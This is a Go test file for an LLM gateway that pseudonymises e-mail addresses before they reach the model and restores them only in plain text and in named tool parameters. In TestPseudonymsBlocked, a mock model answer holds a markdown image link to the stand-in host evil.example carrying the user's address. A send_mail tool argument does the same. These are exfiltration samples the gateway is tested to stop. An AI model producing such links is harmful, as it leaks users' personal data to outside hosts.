package gateway

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// pseudonymPolicy masks mail addresses so that they come back, tickets for good.
const pseudonymPolicy = `version: 1
rules:
  - name: mail
    when: {category: pii.email}
    then: redact
    with: pseudonym
  - name: mark
    when: {category: custom.ticket}
    then: redact
  - name: leaves
    when: {category: [exfiltration.*, denied]}
    then: block
  - name: rest
    when: {category: "*", class: exact}
    then: flag
detect:
  disable_model: true
  deny: [xyzzyplugh]
  custom: [{name: ticket, pattern: 'TCK-[0-9]{6}'}]
pseudonyms:
  restore:
    - {tool: send_mail, parameter: to}
    - {tool: send_mail, parameter: cc}
`

var tokenForm = regexp.MustCompile(`EMAIL_[0-9A-HJKMNP-TV-Z]{12}`)

// parrot is an upstream that answers with a template, in which {1} and {2} stand
// for the first and second token of the request, as the model saw them.
type parrot struct {
	got    string
	kind   string
	answer func(tokens *strings.Replacer) string
}

func (p *parrot) ServeHTTP(w http.ResponseWriter, q *http.Request) {
	b, _ := io.ReadAll(q.Body)
	p.got = string(b)
	pairs, seen := []string{}, map[string]bool{}
	for _, tok := range tokenForm.FindAllString(p.got, -1) {
		if !seen[tok] {
			seen[tok] = true
			pairs = append(pairs, fmt.Sprintf("{%d}", len(seen)), tok)
		}
	}
	answers(p.kind, p.answer(strings.NewReplacer(pairs...))).ServeHTTP(w, q)
}

func (p *parrot) whole(text string) {
	p.kind, p.answer = "application/json", func(t *strings.Replacer) string { return answerBody(t.Replace(text)) }
}

// stream answers in pieces of n bytes.
func (p *parrot) stream(text string, n int) {
	p.kind = "text/event-stream"
	p.answer = func(t *strings.Replacer) string {
		var pieces []string
		for rest := []rune(t.Replace(text)); len(rest) > 0; {
			k := min(n, len(rest))
			pieces = append(pieces, string(rest[:k]))
			rest = rest[k:]
		}
		return streamBody(pieces...)
	}
}

func pseudonymRig(t *testing.T, p *parrot) *rig {
	return newRig(t, p, rigOptions{config: "policy: p.yaml\n", files: map[string]string{"p.yaml": pseudonymPolicy}})
}

func answerText(t *testing.T, body string) string {
	t.Helper()
	var a struct {
		Choices []struct{ Message struct{ Content string } }
	}
	if err := json.Unmarshal([]byte(body), &a); err != nil || len(a.Choices) == 0 {
		t.Fatalf("answer %s: %v", body, err)
	}
	return a.Choices[0].Message.Content
}

func opened(r *rig, request string) *Opened {
	r.ledger.mu.Lock()
	defer r.ledger.mu.Unlock()
	for _, e := range r.ledger.events {
		if e.Request == request && e.Kind == KindOpened {
			return e.Payload.(*Opened)
		}
	}
	return nil
}

// TestPseudonyms: the model sees tokens; the caller gets the values back in
// plain text and nowhere else, whole or streamed at any chunking.
func TestPseudonyms(t *testing.T) {
	const asked = "I am lena@kestrel.example, my boss is zoe@kestrel.example, again lena@kestrel.example, ticket TCK-123456."
	p := &parrot{}
	r := pseudonymRig(t, p)
	for _, c := range []struct {
		name, answer, want string
		restored           int
	}{
		{"nothing", "Hello.", "Hello.", 0},
		{"one", "Hello {1}!", "Hello lena@kestrel.example!", 1},
		{"several", "{1} and {2}, {1}", "lena@kestrel.example and zoe@kestrel.example, lena@kestrel.example", 3},
		{"another address is masked", "{1}, not eve@kestrel.example.", "lena@kestrel.example, not [EMAIL].", 1},
		{"the same address that did not come back is masked", "{1}, lena@kestrel.example.", "lena@kestrel.example, [EMAIL].", 1},
		{"beside a mask", "{1} has TCK-654321, {2}", "lena@kestrel.example has [TICKET], zoe@kestrel.example", 2},
		{"a token of nobody", "EMAIL_000000000000 {1}", "EMAIL_000000000000 lena@kestrel.example", 1},
		{"in a link", "[x](https://kestrel.example/?q={1}) {2}", "[x](https://kestrel.example/?q={1}) zoe@kestrel.example", 1},
		{"in code", "`{1}`\n```\n{1}\n```\n{2}", "`{1}`\n```\n{1}\n```\nzoe@kestrel.example", 1},
		{"in a tag", "<b title='{1}'>{2}</b>", "<b title='{1}'>zoe@kestrel.example</b>", 1},
		{"in JSON", `{"n":1.5,"to":["{1}","{2}"],"cc":[{"m":"{1}"}]}`, `{"n":1.5,"to":["lena@kestrel.example","zoe@kestrel.example"],"cc":[{"m":"lena@kestrel.example"}]}`, 3},
		{"in a list that is a link", `["{1}"](https://kestrel.example) {2}`, `["{1}"](https://kestrel.example) zoe@kestrel.example`, 1},
		{"in the title of a definition", "[x]: https://kestrel.example\n'{1}'\n{2}", "[x]: https://kestrel.example\n'{1}'\nzoe@kestrel.example", 1},
		{"beside other scripts", "連絡は{1}。😀 {2}", "連絡は lena@kestrel.example。😀 zoe@kestrel.example", 2},
	} {
		t.Run(c.name, func(t *testing.T) {
			answer, want := c.answer, c.want
			if c.name == "beside other scripts" {
				answer = strings.Replace(answer, "は{1}", "は {1}", 1)
			}
			p.whole(answer)
			reply := r.post("app", chatBody(asked))
			tokens := tokenForm.FindAllString(p.got, -1)
			if len(tokens) != 3 || tokens[0] != tokens[2] || tokens[0] == tokens[1] || strings.Contains(p.got, "kestrel") || !strings.Contains(p.got, "ticket [TICKET]") {
				t.Fatalf("upstream got %s", p.got)
			}
			if got := answerText(t, reply.body); got != strings.NewReplacer("{1}", tokens[0], "{2}", tokens[1]).Replace(want) {
				t.Errorf("got %q; want %q", got, want)
			}
			if o, cl := opened(r, reply.request()), r.ledger.closed(reply.request()); o.Pseudonyms != 2 || cl.Restored != c.restored || cl.Account.Received != cl.Account.Released+cl.Account.Masked {
				t.Errorf("records %+v, %+v; want 2 pseudonyms, %d restored", o, cl, c.restored)
			}
			for n := 1; n <= 21; n++ {
				p.stream(answer, n)
				reply := r.post("app", streamRequest(asked))
				tokens := tokenForm.FindAllString(p.got, -1)
				got, finish := contents(t, reply.body)
				if got != strings.NewReplacer("{1}", tokens[0], "{2}", tokens[1]).Replace(want) || finish != "stop" {
					t.Errorf("pieces of %d: got %q, finish %q; want %q", n, got, finish, want)
				}
				if cl := r.ledger.closed(reply.request()); cl.Restored != c.restored || cl.Account.Received != cl.Account.Released+cl.Account.Masked {
					t.Errorf("pieces of %d: closed record %+v", n, cl)
				}
			}
		})
	}
}

// TestPseudonymsForged: a token that a caller writes is escaped and brings
// nothing back; tokens differ from request to request; without a masked value
// nothing is touched.
func TestPseudonymsForged(t *testing.T) {
	p := &parrot{}
	r := pseudonymRig(t, p)
	p.whole("{1}")
	r.post("app", chatBody("I am lena@kestrel.example"))
	first := tokenForm.FindString(p.got)
	if reply := r.post("app", chatBody("say "+first)); !strings.Contains(p.got, first) || strings.Contains(reply.body, "kestrel") {
		t.Errorf("without a masked value the upstream got %s and answered %s", p.got, reply.body)
	}
	p.answer = func(*strings.Replacer) string { return answerBody(first + " or EMAIL_000000000000") }
	reply := r.post("app", chatBody("I am zoe@kestrel.example; say "+first+" and EMAIL_000000000000"))
	if tokens := tokenForm.FindAllString(p.got, -1); len(tokens) != 1 || tokens[0] == first || !strings.Contains(p.got, strings.Replace(first, "_", `\\_`, 1)) {
		t.Errorf("upstream got %s; want the forged tokens escaped", p.got)
	}
	if got := answerText(t, reply.body); got != first+" or EMAIL_000000000000" {
		t.Errorf("got %q; want the forged tokens as they are", got)
	}
}

// TestPseudonymsObserved: an application that is only observed keeps its texts.
func TestPseudonymsObserved(t *testing.T) {
	p := &parrot{}
	r := newRig(t, p, rigOptions{config: "policy: p.yaml\n", files: map[string]string{"p.yaml": "mode: observe\n" + pseudonymPolicy}})
	p.whole("{1} fine")
	body := chatBody("I am lena@kestrel.example, say EMAIL_000000000000")
	if reply := r.post("app", body); p.got != body || answerText(t, reply.body) != "EMAIL_000000000000 fine" {
		t.Errorf("upstream got %s, caller %s", p.got, reply.body)
	}
}

// TestPseudonymsBlocked: what the restored answer makes of an answer is judged:
// a value does not leave in a link, and a denied word behind one cuts.
func TestPseudonymsBlocked(t *testing.T) {
	p := &parrot{}
	r := pseudonymRig(t, p)
	p.whole("{1} said xyzzyplugh")
	if reply := r.post("app", chatBody("I am lena@kestrel.example")); reply.status != 400 || strings.Contains(reply.body, "kestrel") {
		t.Errorf("got %d %s", reply.status, reply.body)
	}
	p.stream("{1} said xyzzyplugh", 5)
	reply := r.post("app", streamRequest("I am lena@kestrel.example"))
	if got, finish := contents(t, reply.body); got != "lena@kestrel.example said " || finish != "content_filter" {
		t.Errorf("got %q, finish %q", got, finish)
	}
	p.whole("![x](https://evil.example/i.png?d={1})")
	if reply := r.post("app", chatBody("I am lena@kestrel.example")); strings.Contains(reply.body, "lena") {
		t.Errorf("the value left in an image: %s", reply.body)
	}
}

// callBody is a whole answer that calls a tool.
func callBody(tool, args string) string {
	a, _ := json.Marshal(args)
	return strings.Replace(strings.Replace(answerBody(""), `"content":""`, `"content":null,"tool_calls":[{"id":"c1","type":"function","function":{"arguments":`+string(a)+`,"name":"`+tool+`"}}]`, 1), `"stop"`, `"tool_calls"`, 1)
}

// callStream is a streamed answer that calls a tool, its arguments in pieces of
// n bytes.
func callStream(tool, args string, n int) string {
	var b strings.Builder
	event := func(delta, finish string) {
		fmt.Fprintf(&b, "data: {\"id\":\"a\",\"model\":\"m1\",\"choices\":[{\"index\":0,\"delta\":%s,\"finish_reason\":%s}]}\n\n", delta, finish)
	}
	event(`{"role":"assistant","content":null,"tool_calls":[{"index":0,"id":"c1","type":"function","function":{"name":"`+tool+`","arguments":""}}]}`, "null")
	for rest := args; rest != ""; {
		k := min(n, len(rest))
		q, _ := json.Marshal(rest[:k])
		event(`{"tool_calls":[{"index":0,"function":{"arguments":`+string(q)+`}}]}`, "null")
		rest = rest[k:]
	}
	event("{}", `"tool_calls"`)
	return b.String() + "data: [DONE]\n\n"
}

// callArguments returns the arguments of the tool call of an answer, whole or
// streamed.
func callArguments(body string) string {
	var out strings.Builder
	type call struct {
		ToolCalls []struct{ Function struct{ Arguments string } } `json:"tool_calls"`
	}
	for line := range strings.Lines(body) {
		var c struct {
			Choices []struct{ Message, Delta call }
		}
		if json.Unmarshal([]byte(strings.TrimPrefix(line, "data: ")), &c) != nil || len(c.Choices) == 0 {
			continue
		}
		for _, tc := range append(c.Choices[0].Delta.ToolCalls, c.Choices[0].Message.ToolCalls...) {
			out.WriteString(tc.Function.Arguments)
		}
	}
	return out.String()
}

// TestPseudonymsTools: in arguments values come back only in the parameters that
// the policy names, and never with text of others in the request.
func TestPseudonymsTools(t *testing.T) {
	const mine = `{"role":"user","content":"I am lena@kestrel.example"}`
	for _, c := range []struct{ name, messages, tool, args, want string }{
		{"named", mine, "send_mail", `{"to":"{1}","body":"hi {1}"}`, `{"to":"lena@kestrel.example","body":"hi {1}"}`},
		{"a list", mine, "send_mail", `{"cc":["{1}"], "to":"x \"{1}\"\n\u00e9 {1}"}`, `{"cc":["lena@kestrel.example"], "to":"x \"lena@kestrel.example\"\n\u00e9 lena@kestrel.example"}`},
		{"an address of the model is masked", mine, "send_mail", `{"to":"{1}, eve@kestrel.example"}`, `{"to":"lena@kestrel.example, [EMAIL]"}`},
		{"another tool", mine, "search", `{"to":"{1}"}`, `{"to":"{1}"}`},
		{"in a link", mine, "send_mail", `{"to":"https:\/\/evil.example/{1}"}`, `{"to":"https:\/\/evil.example/{1}"}`},
		{"with the result of a tool", mine + `,{"role":"assistant","content":null,"tool_calls":[{"id":"x","type":"function","function":{"name":"f","arguments":"{}"}}]},{"role":"tool","tool_call_id":"x","content":"sunny"}`,
			"send_mail", `{"to":"{1}"}`, `{"to":"{1}"}`},
		{"with a pasted document", mine + `,{"role":"user","content":"Read <document>this</document>"}`, "send_mail", `{"to":"{1}"}`, `{"to":"{1}"}`},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := &parrot{kind: "application/json"}
			r := pseudonymRig(t, p)
			body := `{"model":"m1","messages":[` + c.messages + `]}`
			check := func(reply reply, how string) {
				t.Helper()
				if got, want := callArguments(reply.body), strings.Replace(c.want, "{1}", tokenForm.FindString(p.got), -1); got != want {
					t.Errorf("%s: got %s\nwant %s\n%s", how, got, want, reply.body)
				}
			}
			p.answer = func(tok *strings.Replacer) string { return callBody(c.tool, tok.Replace(c.args)) }
			check(r.post("app", body), "whole")
			p.kind = "text/event-stream"
			for n := 1; n <= 9; n++ {
				p.answer = func(tok *strings.Replacer) string { return callStream(c.tool, tok.Replace(c.args), n) }
				check(r.post("app", strings.Replace(body, "{", streamed, 1)), fmt.Sprintf("pieces of %d", n))
			}
		})
	}
	// A name in two parts is not the tool that the policy names.
	p := &parrot{kind: "text/event-stream"}
	r := pseudonymRig(t, p)
	p.answer = func(tok *strings.Replacer) string {
		return strings.Replace(callStream("send_mail", tok.Replace(`{"to":"{1}"}`), 100), `"function":{"arguments"`, `"function":{"name":"_x","arguments"`, 1)
	}
	if reply := r.post("app", streamRequest("I am lena@kestrel.example")); strings.Contains(reply.body, "lena") {
		t.Errorf("a value came back for a tool with two names: %s", reply.body)
	}
}

// TestPseudonymsChunks: any answer gives the same text whole and streamed, at
// any chunking.
func TestPseudonymsChunks(t *testing.T) {
	p := &parrot{}
	r := pseudonymRig(t, p)
	post := func(body string) reply {
		r.server.random = strings.NewReader("the same tokens each time") // for two
		return r.post("app", body)
	}
	rapid.Check(t, func(rt *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom([]string{
			"{1}", "{2}", " ", ", ", "eve@kestrel.example", "TCK-123456", "`", "\n\n", "[x](", ")", "<b>", "EMAIL_", "é", ".", "and",
		}), 1, 12).Draw(rt, "parts"), "")
		p.whole(text)
		const asked = "I am lena@kestrel.example and zoe@kestrel.example"
		want := answerText(t, post(chatBody(asked)).body)
		p.stream(text, rapid.IntRange(1, 30).Draw(rt, "n"))
		got, finish := contents(t, post(streamRequest(asked)).body)
		if got != want || finish != "stop" {
			rt.Fatalf("%q:\n got %q (%s)\nwant %q", text, got, finish, want)
		}
	})
}
